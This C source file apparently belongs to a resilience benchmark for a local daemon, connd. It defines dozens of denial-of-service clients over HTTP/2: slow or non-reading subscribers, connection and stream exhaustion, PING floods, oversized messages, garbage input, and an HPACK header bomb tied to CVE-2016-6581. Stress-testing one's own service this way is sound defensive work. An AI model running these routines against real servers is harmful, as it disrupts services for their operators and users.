#include "attacks.h"

#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../../Bench/common/socket.h"
#include "frames.h"
#include "holdings.h"

enum { frame_header = 9, longest = 16384, window = 65535, many = 50 };

/// Fifty subscribers with a connection each.
static void subscribe(const char *socket, int connections[many]) {
  for (int i = 0; i < many; i++) {
    connections[i] = connect_to(socket);
    put_greeting();
    put_watch(1);
    send_out(connections[i]);
  }
}

// These two are not attacks: they show the part of the delay that the number of clients and the
// processor cause.

static void read_all(const char *socket) {
  static uint8_t in[1 << 16];
  int connections[many];
  subscribe(socket, connections);
  struct pollfd wait[many];
  for (int i = 0; i < many; i++) wait[i] = (struct pollfd){connections[i], POLLIN, 0};
  while (poll(wait, many, -1) > 0)
    for (int i = 0; i < many; i++)
      if (wait[i].revents && recv(connections[i], in, sizeof(in), 0) <= 0) exit(1);
}

static void spin(const char *socket) {
  (void)socket;
  for (;;) __asm__ volatile("");
}

// Subscribers that do not read

/// Fifty subscribers on one connection, whose socket is soon full.
static int subscribe_by_one(const char *socket) {
  int connection = connect_to(socket);
  put_greeting();
  for (uint32_t i = 0; i < many; i++) put_watch(2 * i + 1);
  send_out(connection);
  return connection;
}

static void never_read(const char *socket) {
  subscribe_by_one(socket);
  pause();
}

static void read_slowly(const char *socket) {
  for (;;) {
    uint8_t byte;
    for (int connection = subscribe_by_one(socket); recv(connection, &byte, 1, 0) > 0;) sleep(1);
  }
}

static void stop(const char *socket) {
  int connections[many];
  subscribe(socket, connections);
  raise(SIGSTOP);
}

// Clients that come and go

static void open_and_close(const char *socket) {
  for (int i = 0;; i++) {
    int connection = connect_to(socket);
    if (i % 2) put_greeting();
    if (i % 4 == 3) put_watch(1);
    send_out(connection);
    close(connection);
  }
}

/// Makes calls without end, on one connection after the other.
static void call(const char *socket, void put_one(uint32_t stream)) {
  for (;;) {
    int connection = connect_to(socket);
    put_greeting();
    uint32_t stream = 1;
    do
      for (int i = 0; i < 100; i++, stream += 2) put_one(stream);
    while (exchange(connection));
    close(connection);
  }
}

static void put_cancelled(uint32_t stream) {
  put_watch(stream);
  put_frame(reset, 0, stream, "\0\0\0\10", 4);
}

void put_question(uint32_t stream) { put_request(stream, "Diagnostics/ListLinks", NULL, 0); }

static void cancel(const char *socket) { call(socket, put_cancelled); }
/// Queries the kernel's links, as fast as connd answers or refuses.
static void ask(const char *socket) { call(socket, put_question); }

// Clients that do not speak the protocol

/// Before the preface, and after it.
static void send_garbage(const char *socket) {
  static uint8_t garbage[1 << 16];
  for (size_t i = 0; i < sizeof(garbage); i++) garbage[i] = (uint8_t)rand();
  for (int i = 0;; i++) {
    int connection = connect_to(socket);
    if (i % 2) put_greeting();
    put(garbage, sizeof(garbage));
    exchange(connection);
    close(connection);
  }
}

static void leave_half(const char *socket) {
  static uint8_t block[longest];
  write_headers(block, "Connectivity/Watch");
  for (int i = 0; i < many; i++) {
    put_greeting();
    put_frame(headers, end_headers, 1, block, sizeof(block));
    filled--;
    send_out(connect_to(socket));
  }
  pause();
}

/// One long header, and thousands of references of a byte each to it (CVE-2016-6581).
static void bomb(const char *socket) {
  static uint8_t block[longest];
  enum { long_header = 3000, references = 12000 };
  for (;;) {
    int connection = connect_to(socket);
    put_greeting();
    uint32_t stream = 1;
    do {
      uint8_t *at = block + write_headers(block, "Connectivity/Watch");
      const uint8_t name[] = {0x40, 1, 'x', 0x7f, 0x80 | ((long_header - 127) & 0x7f), (long_header - 127) >> 7};
      memcpy(at, name, sizeof(name));
      memset(at + sizeof(name), 'y', long_header);
      memset(at + sizeof(name) + long_header, 0xbe, references);
      put_frame(headers, end_headers, stream, block, (size_t)(at - block) + sizeof(name) + long_header + references);
      stream += 2;
    } while (exchange(connection));
    close(connection);
  }
}

// Beyond the limits

static void put_pings(void) {
  for (int i = 0; i < 1000; i++) put_frame(ping, 0, 0, "\0\0\0\0\0\0\0", 8);
}

/// Sends them as fast as connd takes them, and reads or not, as `pass` does.
static void flood(const char *socket, int pass(int connection)) {
  for (;;) {
    int connection = connect_to(socket);
    put_greeting();
    put_watch(1);
    do put_pings();
    while (pass(connection));
    close(connection);
  }
}

static void ping_and_read(const char *socket) { flood(socket, exchange); }
static void ping_only(const char *socket) { flood(socket, send_out); }

/// Reads up to the end of a stream, and adds window updates to the connection's window. Returns
/// whether the connection lasts.
static int await_stream(int connection, uint32_t stream, int64_t *left) {
  static uint8_t in[longest];
  uint8_t head[frame_header];
  for (;;) {
    if (recv(connection, head, sizeof(head), MSG_WAITALL) != sizeof(head)) return 0;
    size_t length = (size_t)head[0] << 16 | (size_t)head[1] << 8 | head[2];
    uint32_t on = (uint32_t)head[5] << 24 | (uint32_t)head[6] << 16 | (uint32_t)head[7] << 8 | head[8];
    if (length > sizeof(in) || (length && recv(connection, in, length, MSG_WAITALL) != (ssize_t)length)) return 0;
    if (head[3] == window_update && on == 0)
      *left += (uint32_t)in[0] << 24 | (uint32_t)in[1] << 16 | (uint32_t)in[2] << 8 | in[3];
    if (on == stream && head[3] == reset) return 1;
  }
}

/// As much of a message of 100 MB as may be sent before connd allows more, call by call.
static void send_much(const char *socket) {
  static const uint8_t message[longest] = {0, 100 << 20 >> 24, (100 << 20 >> 16) & 0xff, 0, 0}, rest[longest];
  for (;;) {
    int connection = connect_to(socket);
    put_greeting();
    int64_t left = window;
    uint32_t stream = 1;
    int lasts = 1;
    for (; lasts && left >= longest; stream += 2) {
      put_call(stream, "Diagnostics/Explain");
      const uint8_t *part = message;
      for (int64_t all = left < window ? left : window; all >= longest; all -= longest, left -= longest, part = rest)
        put_frame(data, 0, stream, part, longest);
      lasts = send_out(connection) && await_stream(connection, stream, &left);
    }
    close(connection);
  }
}

/// Begins calls without end, and reads nothing.
static void begin_streams(const char *socket) {
  for (;;) {
    int connection = connect_to(socket);
    put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    put_frame(settings, 0, 0, NULL, 0);
    for (uint32_t stream = 1; stream < 1 << 20; stream += 2) {
      put_call(stream, "Connectivity/Guard");
      if (!send_out(connection)) break;
    }
    close(connection);
  }
}

/// As many queries as connd takes, and disconnects before the first answer.
static void ask_and_leave(const char *socket) {
  for (;;) {
    int connection = connect_to(socket);
    put_greeting();
    for (uint32_t stream = 1; stream < 1000; stream += 2) put_question(stream);
    send(connection, out, filled, MSG_DONTWAIT | MSG_NOSIGNAL);
    filled = 0;
    close(connection);
  }
}

/// WatchRequest.since_generation = 1.
static void put_old_watch(uint32_t stream) { put_request(stream, "Connectivity/Watch", "\10\1", 2); }

/// Subscribers from long ago, without end.
static void read_history(const char *socket) { call(socket, put_old_watch); }

/// SetCostRequest: link = "v1", expensive by turns on and off.
static void put_cost(uint32_t stream) {
  put_request(stream, "Costs/SetCost", stream % 4 == 1 ? "\12\2v1\40\1" : "\12\2v1\40\2", 6);
}

/// A loop of changes if root makes it, otherwise a loop of queries to polkit.
static void set_costs(const char *socket) { call(socket, put_cost); }

/// As many connections as it gets.
static void hold_connections(const char *socket) {
  for (int i = 0; i < 2000; i++) {
    int connection = connect_to(socket);
    if (i % 2) put_greeting();
    send_out(connection);
  }
  pause();
}

// As many of one kind as a user may have.

static void hold_many(const char *socket, const char *kind) {
  enum { most = 960 };
  find_holding(kind)->hold(socket, most);
  pause();
}

static void fill_connections(const char *socket) { hold_many(socket, "full-connections"); }
static void halve_headers(const char *socket) { hold_many(socket, "headers"); }
static void follow_paths(const char *socket) { hold_many(socket, "paths"); }
static void halve_requests(const char *socket) { hold_many(socket, "guards"); }
static void request_at_length(const char *socket) { hold_many(socket, "long-requests"); }

const struct attack attacks[] = {
    {"200 watching people", watch_as_some, by_root},
    {"(50 that read)", read_all, by_user},
    {"(a busy processor)", spin, by_user},
    {"50 never read", never_read, by_user},
    {"50 read a byte a second", read_slowly, by_user},
    {"50 are stopped", stop, by_user},
    {"opens and closes", open_and_close, by_user},
    {"cancels", cancel, by_user},
    {"asks for 3,000 links", ask, by_user},
    {"garbage", send_garbage, by_user},
    {"50 halves of frames", leave_half, by_user},
    {"header bombs", bomb, by_user},
    {"PINGs", ping_and_read, by_user},
    {"PINGs, and never reads", ping_only, by_user},
    {"messages of 100 MB", send_much, by_user},
    {"streams without end", begin_streams, by_user},
    {"asks and leaves", ask_and_leave, by_user},
    {"reads all history", read_history, by_user},
    {"holds connections", hold_connections, by_user},
    {"unread registrations", guard_unread, by_user},
    {"the same, another user", guard_unread, by_user},
    {"registers and removes", guard_and_remove, by_user},
    {"unread histories", leave_history_unread, by_user},
    {"all calls", call_everything, by_user},
    {"all calls, another user", call_everything, by_user},
    {"all calls, unread", leave_everything_unread, by_user},
    {"all calls, unread, another", leave_everything_unread, by_user},
    {"holds flows", guard_many, by_user},
    {"the same with flows, another", guard_many, by_user},
    {"full connections", fill_connections, by_user},
    {"halves of headers", halve_headers, by_user},
    {"follows paths", follow_paths, by_user},
    {"halves of requests", halve_requests, by_user},
    {"long requests", request_at_length, by_user},
    {"1,800 uids that ask", ask_as_subordinates, by_root},
    {"40 uids that hold", hold_as_subordinates, by_root},
    {"two services that hold", hold_as_services, by_root},
    {"lists 2,048 connections", list_connections, by_root},
    {"sets costs", set_costs, by_root},
    {"asks polkit, which is mute", set_costs, by_user},
    {"1,400 watching people", watch_as_many, by_root | alone},
};
const int attack_count = sizeof(attacks) / sizeof(*attacks);

static pid_t parent;

void end_with_parent(void) {
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  if (getppid() != parent) _exit(1);
}

pid_t start_attack(const struct attack *attack, const char *socket, uid_t user) {
  parent = getpid();
  pid_t child = fork();
  if (child < 0) perror("fork"), exit(1);
  if (child) return child;
  if (user && !(attack->kind & by_root) && (setgid(user) || setuid(user))) perror("setuid"), _exit(1);
  end_with_parent();
  attack->run(socket);
  _exit(1);
}

void end_attack(pid_t attacker) {
  if (waitpid(attacker, NULL, WNOHANG)) fprintf(stderr, "an attacker has exited by itself\n"), exit(1);
  kill(attacker, SIGKILL);
  waitpid(attacker, NULL, 0);
}
